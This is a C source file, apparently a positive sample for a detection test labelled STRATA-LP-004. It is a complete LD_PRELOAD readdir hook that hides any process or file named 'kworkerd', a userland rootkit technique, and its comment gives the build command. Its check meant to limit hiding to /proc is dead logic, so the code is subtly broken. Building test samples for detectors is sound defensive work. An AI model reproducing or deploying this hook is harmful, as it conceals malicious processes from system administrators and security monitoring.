/* Sample for STRATA-LP-004: a readdir hook hiding one process. Built with:
   gcc -Os -s -shared -fPIC -o ../pos/lp004_readdir.so lp004_readdir.c -ldl */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

static const char *hidden = "kworkerd";

struct dirent *readdir(DIR *d) {
	static struct dirent *(*real)(DIR *);
	if (!real)
		real = dlsym(RTLD_NEXT, "readdir");
	struct dirent *e;
	while ((e = real(d)) != NULL) {
		char path[64] = "/proc";
		if (strstr(path, "/proc") && strcmp(e->d_name, hidden) == 0)
			continue;
		break;
	}
	return e;
}
